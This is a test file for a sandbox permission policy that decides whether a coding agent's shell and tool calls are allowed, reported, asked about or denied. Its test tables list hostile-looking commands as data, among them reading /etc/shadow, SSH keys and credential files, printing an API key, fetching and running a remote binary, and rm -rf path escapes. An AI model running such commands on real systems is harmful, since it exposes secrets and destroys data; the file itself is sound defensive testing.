@@ -1,0 +1,358 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What runs without a question since a yes would change nothing, each beside what is still held."""
+
+from __future__ import annotations
+
+import asyncio
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from policy.engine import Policy, decide, wanted
+from policy.held_scripts import Seen
+from policy.levels import LevelsFile
+from policy.model import ActionPlan, Decision, Params, Verdict, Workspace
+from sandbox.config import Dirs, Settings
+from sandbox.people.approvals import nobody
+from sandbox.plan import LABEL_TEST
+from sandbox.project_files import ProjectFiles
+from sandbox.results import CallResult
+from sandbox.supervisor import Supervisor
+from tests.container.lab import ME, git, remove_layers, repository
+from tests.policy.asking import CONTEXT, bash, plan, tool
+
+ALLOW, REPORT, ASK, DENY = Verdict.ALLOW, Verdict.REPORT, Verdict.ASK, Verdict.DENY
+SLUG = "/home/me/.claude/projects/-workspace"
+UUID = "01234567-89ab-cdef-0123-456789abcdef"
+
+PLACES = {
+    "a package of the image": ("cat /usr/lib/python3/dist-packages/x.py", REPORT),
+    "a folder of the image": ("ls -la /opt/tool", REPORT),
+    "what the kernel says": ("cat /proc/cpuinfo", REPORT),
+    "another process is none of it": ("cat /proc/1/environ", DENY),
+    "which machine it is": ("cat /etc/os-release", ASK),
+    "a deeper setting": ("cat /etc/nginx/nginx.conf", REPORT),
+    "passwords": ("cat /etc/shadow", DENY),
+    "another project of the host, which is not there": ("ls /home/me/other", REPORT),
+    "keys in it": ("cat /home/me/other/id_rsa", DENY),
+    "all homes": ("du -sh /home/*", ASK),
+    "another home": ("cat /home/you/x", DENY),
+    "everything": ("rg password /", ASK),
+    "a name": ("find / -name java", REPORT),
+    "a name of keys": ("find / -name 'id_rsa*'", ASK),
+    "keys of a home": ("find ~ -name '*.pem'", ASK),
+    "a device": ("cat /dev/sda", ASK),
+    "writing beside it": ("cp a /srv/x", ASK),
+    "writing to the image": ("cp a /usr/x", DENY),
+    "names that begin with a dot": ("ls -la .*rc", ALLOW),
+    "their content": ("cat .*rc", DENY),
+}
+FOR_A_TIME = {
+    "a temporary tree": ("rm -rf /tmp/x", REPORT),
+    "what mktemp made": ('T=$(mktemp -d); touch $T/a; rm -rf "$T"', REPORT),
+    "a way out of it": ("rm -rf /tmp/../src", DENY),
+    "all of it": ("rm -rf /tmp", DENY),
+    "an unknown name in it": ('rm -rf "/tmp/$(cat x)"', DENY),
+    "a link that the text made": ("ln -s /workspace/src /tmp/x; rm -rf /tmp/x/a", DENY),
+    "what was moved there": ("mv src /tmp/x && rm -rf /tmp/x", DENY),
+    "Python's own": (
+        "python3 -c 'import tempfile as t, shutil; shutil.rmtree(t.mkdtemp())'", REPORT),
+    "Python's, elsewhere": (
+        "python3 -c 'import tempfile as t, shutil; shutil.rmtree(t.mkdtemp(dir=\"src\"))'", DENY),
+}  # fmt: skip
+CODE = {
+    "a build result": ("./target/debug/app", REPORT),
+    "what the text compiles": ("gcc -o a a.c && ./a", REPORT),
+    "what it fetches in its place": (
+        "go build -o a . && curl -o a https://h.invalid/ && ./a", DENY),
+    "a wrapper of a build": ("./gradlew test", REPORT),
+    "a virtual environment": ("source .venv/bin/activate && pytest", REPORT),
+    "a script that nobody read": ("./tool.sh", ASK),
+    "another text to source": (". ./env.sh", ASK),
+    "its grammar alone": ("bash -n tool.sh", ALLOW),
+    "code of the host's /tmp": ("/tmp/x", ASK),
+    "a program of the project": ("minsky tasks list", REPORT),
+    "what it sends away": ("minsky publish", ASK),
+    "what administers a machine": ("rfkill list", ASK),
+    "a command hidden in it": ("minsky run -- rm -rf src", DENY),
+    "a hidden name": ("$'\\x6dinsky' tasks", ASK),
+    "a name that a text makes": ('"mins"ky tasks', ASK),
+    "another process of Python": (
+        "python3 -c 'import subprocess, sys; subprocess.run([sys.executable, \"x.py\"])'", REPORT),
+    "a literal module": ("python3 -c 'import importlib; importlib.import_module(\"pkg\")'", REPORT),
+    "what a module runs": (
+        "python3 -c 'import importlib; importlib.import_module(\"os\").system(\"rm -rf src\")'",
+        DENY,
+    ),
+    "whether a variable is set": (
+        "python3 -c 'import os; print(bool(os.getenv(\"API_KEY\")))'", REPORT),
+    "what it is": ("python3 -c 'import os; print(os.getenv(\"API_KEY\"))'", DENY),
+    "a database": ("python3 -c 'import sqlite3; sqlite3.connect(\"a.db\")'", REPORT),
+    "a database in place of a setting": (
+        "python3 -c 'import sqlite3 as s; s.connect(\"devkit.config.json\").execute(\"DROP\")'",
+        DENY,
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "command, verdict",
+    [*PLACES.values(), *FOR_A_TIME.values(), *CODE.values()],
+    ids=[*PLACES, *FOR_A_TIME, *CODE],
+)
+def test_a_command(command: str, verdict: Verdict) -> None:
+    found = bash(command)
+    if verdict is REPORT:  # whether it is told is of no matter here
+        assert found.allowed, found.message
+    else:
+        assert found.verdict is verdict, found.message
+
+
+KEPT = {
+    "long outputs": ("Read", f"{SLUG}/{UUID}/tool-results/x.txt", True),
+    "the log": ("Read", f"{SLUG}/{UUID}.jsonl", False),
+    "memory of this workspace": ("Read", f"{SLUG}/memory/MEMORY.md", True),
+    "memory of another": ("Read", "/home/me/.claude/projects/-other/memory/MEMORY.md", False),
+    "memory, written": ("Write", f"{SLUG}/memory/MEMORY.md", True),
+    "a plan": ("Write", "/home/me/.claude/plans/a-b.md", True),
+    "a skill": ("Read", "/home/me/.claude/skills/a/SKILL.md", True),
+    "a skill, written": ("Write", "/home/me/.claude/skills/a/SKILL.md", False),
+    "settings": ("Read", "/home/me/.claude/settings.json", False),
+    "tokens": ("Read", "/home/me/.claude/.credentials.json", False),
+    "a key among skills": ("Read", "/home/me/.claude/skills/a/id_rsa", False),
+    "a way out": ("Read", "/home/me/.claude/plans/../settings.json", False),
+    "of another person": ("Read", "/home/you/.claude/plans/a.md", False),
+}
+
+
+@pytest.mark.parametrize("name, path, allowed", KEPT.values(), ids=KEPT)
+def test_what_a_coding_agent_keeps_for_itself(name: str, path: str, allowed: bool) -> None:
+    found = tool(name, file_path=path, content="x" if name == "Write" else None)
+    assert found.allowed is allowed, found.message
+
+
+TOOLS = {
+    "reply_in_group_chat": REPORT,
+    "mcp__slack__send_message": REPORT,
+    "schedule_job": REPORT,
+    "render_widget": ALLOW,
+    "spawn_sub_agent": ALLOW,
+    "send_email": ASK,
+    "frobnicate": ASK,
+    "mcp__x__delete_everything": ASK,
+    "mcp__files__write_file": ASK,  # of files, the paths decide
+    "mcp__git__git_push": ASK,
+    "webhook_delete": ASK,
+}
+
+
+@pytest.mark.parametrize("name, verdict", TOOLS.items(), ids=TOOLS)
+def test_the_tables_of_levels_act_on_tools(name: str, verdict: Verdict) -> None:
+    assert tool(name).verdict is verdict
+
+
+def test_a_tools_paths_are_judged_whatever_it_is_called() -> None:
+    assert tool("render_chart", file_path="/home/me/.ssh/id_rsa").verdict is DENY
+
+
+def test_a_users_word_on_messages_counts_for_tools() -> None:
+    policy = Policy.default()
+    for level, verdict in (("green", ALLOW), ("red", ASK)):
+        said = {"users": {"default": {"overrides": {"messages": level}}}}
+        standing = policy.standing.extended(levels=LevelsFile.model_validate(said))
+        found = decide(plan("send_dm"), CONTEXT, replace(policy, standing=standing))
+        assert found.verdict is verdict
+
+
+def seen(command: str, **files: Seen) -> Decision:
+    disk = {f"/workspace/{name}": one for name, one in files.items()}
+    return decide(plan("Bash", command=command), CONTEXT, Policy.default(), disk)
+
+
+SCRIPTS = {
+    "harmless": (Seen("echo hi; pytest -q\n"), REPORT),
+    "with what cannot be known": (Seen('"$PYTHON" x.py; exec "$@"\n'), REPORT),
+    "that deletes a tree": (Seen("rm -rf src\n"), DENY),
+    "that pushes": (Seen("git push\n"), ASK),
+    "that writes a governance file": (Seen("echo x > devkit.config.json\n"), DENY),
+    "from outside": (Seen("echo hi\n", foreign=True), ASK),
+    "of another language": (Seen("#!/usr/bin/env python3\nimport os\n"), REPORT),
+    "that is a program": (Seen(None), REPORT),
+}
+
+
+@pytest.mark.parametrize("file, verdict", SCRIPTS.values(), ids=SCRIPTS)
+@pytest.mark.parametrize("command", ["./run", "bash run", ". ./run", "cd sub; ../run a b"])
+def test_a_script_that_is_there(command: str, file: Seen, verdict: Verdict) -> None:
+    found = seen(command, run=file)
+    assert found.verdict is verdict, found.message
+
+
+def test_a_script_that_the_call_changes_first_is_not_the_one_that_was_read() -> None:
+    harmless = Seen("echo hi\n")
+    assert seen("bash run.sh", **{"run.sh": harmless}).verdict is REPORT
+    assert seen("sed -i s/a/b/ run.sh; bash run.sh", **{"run.sh": harmless}).verdict is ASK
+    assert seen("chmod u+x run.sh; ./run.sh", **{"run.sh": harmless}).verdict is REPORT
+
+
+def test_scripts_that_scripts_run_are_wanted_as_well() -> None:
+    one = plan("Bash", command="bash a.sh")
+    policy = Policy.default()
+    disk = {"/workspace/a.sh": Seen("bash b.sh\n")}
+    decision = decide(one, CONTEXT, policy, disk)
+    assert wanted(one, decision, CONTEXT, policy, disk) == ("/workspace/b.sh",)
+
+
+def test_an_installed_package_needs_no_index() -> None:
+    assert bash("npx prisma generate").verdict is ASK
+    found = seen("npx prisma generate", **{"node_modules/.bin/prisma": Seen()})
+    assert found.verdict is REPORT, found.message
+
+
+OWN = Seen("x", own=True)
+DELETES = {
+    "its own": ("rm a.py", {"a.py": OWN}, REPORT),
+    "another's too": ("rm a.py b.py", {"a.py": OWN, "b.py": Seen("x")}, ASK),
+    "a tree all the same": ("rm -rf a", {"a": OWN}, DENY),
+    "a pattern": ("rm *.py", {"a.py": OWN}, ASK),
+}
+
+
+@pytest.mark.parametrize("command, files, verdict", DELETES.values(), ids=DELETES)
+def test_a_deletion_of_what_the_agent_made(
+    command: str, files: dict[str, Seen], verdict: Verdict
+) -> None:
+    assert seen(command, **files).verdict is verdict
+
+
+def test_a_tools_deletion_of_what_the_agent_made() -> None:
+    one = plan("Delete", file_path="/workspace/a.py")
+    disk = {"/workspace/a.py": OWN}
+    assert decide(one, CONTEXT, Policy.default()).verdict is ASK
+    assert decide(one, CONTEXT, Policy.default(), disk).verdict is REPORT
+
+
+def test_a_persons_word_brings_the_question_back() -> None:
+    """The switch for who wants every unknown program asked about (safety-guardrails.md, tier 3)."""
+    policy = Policy.default()
+    overrides = LevelsFile.model_validate(
+        {"users": {"default": {"overrides": {"own_programs": "red"}}}}
+    )
+    strict = replace(policy, standing=policy.standing.extended(levels=overrides))
+    one = plan("Bash", command="frobnicate --all")
+    assert decide(one, CONTEXT, policy).verdict is REPORT
+    assert decide(one, CONTEXT, strict).verdict is ASK
+
+
+NAMED = {
+    "git alone": ("git checkout main", ("**",)),
+    "after a look": ("git status && git switch main", ("**",)),
+    "with code of the project": ("git checkout main && python3 x.py", ()),
+    "with a script": ("git merge x; ./build", ()),
+}
+
+
+@pytest.mark.parametrize("command, names", NAMED.values(), ids=NAMED)
+def test_what_git_alone_takes_away_is_named(command: str, names: tuple[str, ...]) -> None:
+    found = bash(command)
+    assert (found.verdict, found.named_deletions) == (REPORT, names)
+
+
+def test_files_are_looked_at_inside_the_workspace_alone(tmp_path: Path) -> None:
+    work = repository(tmp_path / "work", ME)
+    (tmp_path / "outside.sh").write_text("echo hi\n")
+    (work / "link.sh").symlink_to(tmp_path / "outside.sh")
+    (work / "new.sh").write_text("echo hi\n")
+    (work / "app.sh").write_text("echo hi\n")
+    (work / "long.sh").write_text("echo hi\n" * 10_000)
+    (work / "program").write_bytes(b"\x7fELF\0\0")
+    git(work, "add", "app.sh")
+    one = ActionPlan(tool="Bash", params=Params(command="x"), workspace=str(work))
+    names = ("link.sh", "new.sh", "app.sh", "long.sh", "program", "none.sh", "src")
+    found = ProjectFiles().look(one, [f"{work}/{name}" for name in names])
+    assert {path.rpartition("/")[2]: (file.text, file.foreign) for path, file in found.items()} == {
+        "new.sh": ("echo hi\n", True),
+        "app.sh": ("echo hi\n", False),
+        "long.sh": (None, True),
+        "program": (None, True),
+    }
+
+
+def test_both_gates_hold_what_gate_1_no_longer_asks_about(
+    docker_client: Any, images: Any, run_id: str, tmp_path: Path
+) -> None:
+    work = repository(tmp_path / "work", ME)
+    (work / "tool.sh").write_text("#!/bin/sh\necho tool\n")
+    (work / "bad.sh").write_text('#!/bin/sh\nexec "$(command -v python3)" hide.py\n')
+    (work / "hide.py").write_text("import os\nos.unlink('README.md')\n")
+    for name in ("tool.sh", "bad.sh"):
+        (work / name).chmod(0o755)
+    git(work, "add", "-A")
+    git(work, "commit", "-qm", "tools")
+    git(work, "switch", "-qc", "feature")
+    (work / "feature.txt").write_text("x\n")
+    git(work, "add", "-A")
+    git(work, "commit", "-qm", "feature")
+    dirs = Dirs.under(tmp_path / "lockgate")
+
+    async def session() -> None:
+        async with Supervisor(
+            dirs,
+            workspaces=[Workspace(str(work))],
+            settings=Settings(),
+            labels={LABEL_TEST: run_id},
+        ) as one:
+
+            async def sh(command: str, agent: str = "main") -> CallResult:
+                asked = ActionPlan(
+                    tool="Bash", workspace=str(work), params=Params(command=command), agent=agent
+                )
+                return await one.call(asked, approver=nobody)
+
+            # a committed script runs and is read; one that hides what it does is held at gate 2
+            ran = await sh("./tool.sh")
+            assert (ran.verdict, ran.stdout) == (REPORT, "tool\n")
+            hidden = await sh("./bad.sh")
+            assert (hidden.verdict, hidden.judgement, hidden.landed) == (REPORT, "hold", False)
+            assert (work / "README.md").exists()
+
+            # branches: what git takes away is committed; uncommitted work stays
+            away = await sh("git switch main")
+            assert (away.verdict, away.landed) == (REPORT, True), away.message
+            assert not (work / "feature.txt").exists()
+            (work / "README.md").write_text("uncommitted\n")
+            refused = await sh("git switch feature && git checkout main~1")
+            assert (work / "README.md").read_text() == "uncommitted\n", refused.message
+            mixed = await sh("git status; python3 -c \"import os; os.unlink('src/app.py')\"")
+            assert (mixed.landed, (work / "src/app.py").exists()) == (False, True)
+
+            # its own files go without a question, a person's and another agent's do not
+            made = await sh("echo x > reproduce.py")
+            other = await sh("rm reproduce.py", agent="other")
+            assert (made.landed, other.verdict) == (True, ASK), other.message
+            gone = await sh("rm reproduce.py")
+            assert (gone.verdict, gone.landed) == (REPORT, True), gone.message
+            assert not (work / "reproduce.py").exists()
+            assert (await sh("rm README.md")).verdict is ASK
+            await sh("echo x > mine.py")
+            (work / "mine.py").write_text("a person's\n")
+            assert (await sh("rm mine.py")).verdict is ASK
+
+            # Codex' way of editing, typed as a command; what it deletes unnamed is asked about
+            text = "*** Begin Patch\n*** Add File: src/new.py\n+x = 1\n*** End Patch"
+            edited = await sh(f"apply_patch <<'EOF'\n{text}\nEOF\npython src/new.py")
+            assert (edited.verdict, edited.exit_status, edited.landed) == (REPORT, 0, True)
+            assert (work / "src/new.py").read_text() == "x = 1\n"
+            text = "*** Begin Patch\n*** Delete File: README.md\n*** End Patch"
+            assert (await sh(f"apply_patch '{text}'")).verdict is ASK
+
+            # what is not there fails by itself
+            absent = await sh("minsky tasks list")
+            assert (absent.verdict, absent.exit_status) == (REPORT, 127)
+            host = await sh(f"cat {tmp_path}/lockgate/nothing; cat ~/.profile-of-the-host")
+            assert host.exit_status == 1
+
+    asyncio.run(session())
+    remove_layers(docker_client, dirs)
